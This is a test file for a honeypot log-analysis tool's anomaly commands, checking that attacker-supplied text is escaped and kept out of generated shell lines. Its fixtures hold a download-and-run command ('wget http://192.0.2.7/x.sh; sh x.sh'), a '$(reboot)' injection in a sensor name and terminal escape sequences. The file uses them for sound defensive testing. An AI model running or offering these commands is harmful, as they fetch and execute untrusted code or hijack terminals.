/** Anomalies as a user types them: listed, shown, decided on, turned into drafts of rules. */
import assert from 'node:assert/strict'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { type Anomaly, hourOf } from '../../src/core/anomaly.ts'
import { type Finished, nacre, nacreJson } from '../support/cli.ts'
import { eachEngine, type TestDatabase } from '../support/engines.ts'
import { events, type Fields, lines } from '../support/loading.ts'

const HOUR = hourOf(Date.UTC(2026, 4, 1, 10) * 1000)
/** As it is stored: of such a name no line for a shell is made. */
const ODD_SENSOR = '$(reboot)\\u{1B}[2J'
const HOSTILE = '\\u{1B}]52;c;aWQ=\\u{7}=cmd() <b> http://drop.example/x'

const command = (session: string, input: string, more: Fields = {}): Fields => ({
  ...events(1)[0],
  ...{ eventid: 'cowrie.command.input', session, input },
  ...more,
})

const LOG = lines([
  command('aaaaaaaaaaaa', 'uname -a'),
  command('aaaaaaaaaaaa', 'cd /tmp; wget http://192.0.2.7/x.sh; sh x.sh', {
    timestamp: '2026-05-01T10:00:01.000000Z',
  }),
  command('bbbbbbbbbbbb', 'echo worm-number-77 > /tmp/x', { sensor: '$(reboot)\u001b[2J' }),
])

const anomaly = (more: Partial<Anomaly> = {}): Anomaly => ({
  ...{ detector: 'new-commands', sensor: 'sensor-1', hour: HOUR, severity: 'alarm' },
  ...{ figure: 900, baseline: 90.5, spread: 30.25, samples: 8, basis: 'hour of the week' },
  ...{ score: 26.76, threshold: 6, firstSeenUs: HOUR * 3.6e9, lastSeenUs: HOUR * 3.6e9 },
  evidence: {
    values: [
      {
        kind: 'command',
        text: 'cd /tmp; wget http://192.0.2.7/x.sh; sh x.sh',
        count: 3,
        session: 'aaaaaaaaaaaa',
      },
    ],
    more: 4,
    withheld: 0,
  },
  ...more,
})

const FOUND: readonly Anomaly[] = [
  anomaly(),
  anomaly({
    hour: HOUR + 1,
    sensor: ODD_SENSOR,
    evidence: {
      values: [{ kind: 'session', text: 'bbbbbbbbbbbb', count: 1 }],
      more: 0,
      withheld: 2,
    },
  }),
  anomaly({
    hour: HOUR + 2,
    detector: 'volume',
    evidence: { values: [{ kind: 'address', text: HOSTILE, count: 9 }], more: 0, withheld: 0 },
  }),
  anomaly({ hour: HOUR + 3, detector: 'new-files', severity: 'notice', figure: 1 }),
]

type Listed = { readonly anomalies: readonly Record<string, unknown>[]; readonly hasMore: boolean }
type Decided = {
  readonly state: string
  readonly factorPercent: number
  readonly drafts: readonly { readonly command: string | null }[]
  readonly rules: readonly { readonly matches: readonly string[] }[]
}
type Baselines = {
  readonly sensors: readonly {
    readonly sensor: string
    readonly detectors: readonly Record<string, unknown>[]
  }[]
}

eachEngine((engine) => {
  let root: string
  let database: TestDatabase
  let data: string
  const where = (): string[] => ['--data', data, '--store', database.url]
  const run = (...args: string[]): Finished => nacre([...args, ...where()])
  const json = <T>(...args: string[]): T => nacreJson<T>([...args, ...where()])
  const refused = (args: string[], status: number, code: string): void => {
    const done = run(...args)
    assert.deepEqual([done.status, done.stdout], [status, ''])
    assert.ok(done.stderr.includes(`(${code})`), done.stderr)
  }

  describe('anomalies', () => {
    before(async () => {
      root = mkdtempSync(join(tmpdir(), 'nacre-test-'))
      database = await engine.create(root)
      data = join(root, 'data')
      mkdirSync(join(root, 'logs'))
      writeFileSync(join(root, 'logs', 'cowrie.json'), LOG)
      const done = run('ingest', 'bulk', join(root, 'logs'))
      assert.equal(done.status, 0, done.stderr)
      const store = await database.open('write')
      await store.activity.raise(FOUND)
      await store.activity.add([
        ...Array.from({ length: 100 }, (_, i) => ({
          ...{ sensor: 'sensor-1', metric: 'events', value: 50, isPeak: false },
          hour: hourOf(Date.now() * 1000) - i,
        })),
      ])
      await store.close()
    })
    after(async () => {
      await database.drop()
      rmSync(root, { recursive: true })
    })

    test('list has those that wait, newest first, and all of them when asked', () => {
      const { anomalies, hasMore } = json<Listed>('anomalies', 'list')
      assert.deepEqual(
        anomalies.map(({ id, detector, sensor, state }) => [id, detector, sensor, state]),
        [
          [3, 'volume', 'sensor-1', 'new'],
          [2, 'new-commands', ODD_SENSOR, 'new'],
          [1, 'new-commands', 'sensor-1', 'new'],
        ],
      )
      assert.equal(hasMore, false)
      assert.equal(json<Listed>('anomalies', 'list', '--all').anomalies.length, 4)
      assert.equal(json<Listed>('anomalies', 'list', '--limit', '1').hasMore, true)
      const text = run('anomalies', 'list', '--sensor', 'sensor-1').stdout
      assert.match(
        text,
        /^ +1 {2}2026-05-01 10:00 {2}sensor-1 {2}new-commands +900 +90\.5 +26\.8 {2}new$/m,
      )
      assert.match(run('anomalies', 'list', '--sensor', 'nobody').stdout, /^No anomaly matches/)
    })

    test('show names the figure, what is usual and what is behind it', () => {
      const text = run('anomalies', 'show', '1').stdout
      assert.match(text, /900 commands in an hour that were not seen for 30 days; usual are 90\.5/)
      assert.match(text, /command +3 +- {2}aaaaaaaaaaaa {2}cd \/tmp; wget hxxp/)
      assert.match(text, /and about 4 more/)
      assert.match(run('anomalies', 'show', '2').stdout, /2 events of the hour are withheld/)
      assert.match(
        run('anomalies', 'show', '4').stdout,
        /^Notice 4\n[\s\S]*after a successful log-in/,
      )
      refused(['anomalies', 'show', '99'], 1, 'LOOKUP_NO_ANOMALY')
      refused(['anomalies', 'show', 'x'], 2, 'USAGE_BAD_ARGUMENT')
    })

    test('what an attacker wrote is spelled out in every output', () => {
      for (const args of [['list'], ['show', '2'], ['show', '3'], ['baseline']]) {
        for (const more of [[], ['--json']]) {
          const { stdout, status } = run('anomalies', ...args, ...more)
          assert.equal(status, 0)
          assert.doesNotMatch(stdout, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/)
          if (more.length === 0) assert.doesNotMatch(stdout, /http:\/\//)
        }
      }
      assert.match(run('anomalies', 'show', '3').stdout, /\\u\{1B\}\]52/)
    })

    test('false raises the threshold, needs a reason, and is said once', () => {
      refused(['anomalies', 'false', '3'], 2, 'USAGE_BAD_OPTION')
      const done = run('anomalies', 'false', '3', '--reason', 'our own scan')
      assert.match(done.stdout, /is now 125 % of the ordinary one, before it was 100 %/)
      refused(['anomalies', 'false', '3', '--reason', 'again'], 1, 'LOOKUP_NO_ANOMALY')
      refused(['anomalies', 'confirm', '3', '--reason', 'again'], 1, 'LOOKUP_NO_ANOMALY')
      assert.match(run('anomalies', 'show', '3').stdout, /state +false, by \S+: our own scan/)
      const [sensor] = json<Baselines>('anomalies', 'baseline', '--sensor', 'sensor-1').sensors
      const volume = sensor!.detectors.find(({ detector }) => detector === 'volume')!
      assert.deepEqual([volume['factorPercent'], volume['threshold']], [125, 7.5])
    })

    test('confirm proposes commands that draft rules, and drafts them', () => {
      refused(['anomalies', 'confirm', '1'], 2, 'USAGE_BAD_OPTION')
      const done = json<Decided>('anomalies', 'confirm', '1', '--reason', 'new worm')
      assert.equal(done.state, 'confirmed')
      assert.deepEqual(
        done.drafts.map(({ command }) => command),
        ['nacre rules draft aaaaaaaaaaaa --sensor sensor-1 --event 2 --field input --axis threat'],
      )
      // What it says to type works.
      const typed = done.drafts[0]!.command!.split(' ').slice(1)
      const drafted = json<{ matches: readonly string[] }>(...typed)
      const again = json<Decided>('anomalies', 'confirm', '1', '--draft')
      assert.deepEqual(again.rules, [drafted])
      assert.match(
        run('anomalies', 'confirm', '1').stdout,
        /^Confirmed[\s\S]*nacre rules draft aaaa/,
      )
      assert.match(run('anomalies', 'confirm', '1', '--draft').stdout, /"pattern": /)
    })

    test('no line for a shell is made of a name that is not fit for one', () => {
      const done = json<Decided>('anomalies', 'confirm', '2', '--reason', 'new worm')
      assert.deepEqual(
        done.drafts.map(({ command }) => command),
        [null],
      )
      const { stdout } = run('anomalies', 'confirm', '2')
      assert.doesNotMatch(stdout, /reboot/)
      assert.match(stdout, /use --draft/)
      const { rules } = json<Decided>('anomalies', 'confirm', '2', '--draft')
      assert.deepEqual(
        rules.map(({ matches }) => matches),
        [['echo worm-number-77 > /tmp/x']],
      )
    })

    test('baseline says what each detector knows, learning or armed', () => {
      const { sensors } = json<Baselines>('anomalies', 'baseline')
      assert.deepEqual(
        sensors.map(({ sensor }) => sensor),
        ['sensor-1'],
      )
      const [volume] = sensors[0]!.detectors
      assert.equal(volume!['state'], 'armed')
      assert.equal(volume!['hours'], 99)
      assert.deepEqual([volume!['median'], volume!['figure']], [50, 50])
      assert.equal(volume!['alarmFrom'], 500)
      const shift = sensors[0]!.detectors.at(-1)!
      assert.deepEqual([shift['state'], shift['hours'], shift['alarmFrom']], ['learning', 0, null])
      assert.match(run('anomalies', 'baseline').stdout, /volume +armed +99 +50 +50/)
    })

    test('decisions are in the journal, and the store verifies', () => {
      assert.equal(run('verify').status, 0)
    })

    test('a wrong policy stops the start and says what it may be', () => {
      for (const policy of ['volume', 'volume:shout', 'noise:hold', 'volume:hold,volume:alert']) {
        writeFileSync(join(data, 'nacre.toml'), `[anomaly]\npolicy = "${policy}"\n`)
        refused(['anomalies', 'list'], 1, 'CONFIG_BAD_VALUE')
      }
      writeFileSync(
        join(data, 'nacre.toml'),
        '[anomaly]\npolicy = "hazard:hold, volume:throttle"\n',
      )
      assert.equal(run('anomalies', 'list').status, 0)
    })
  })
})
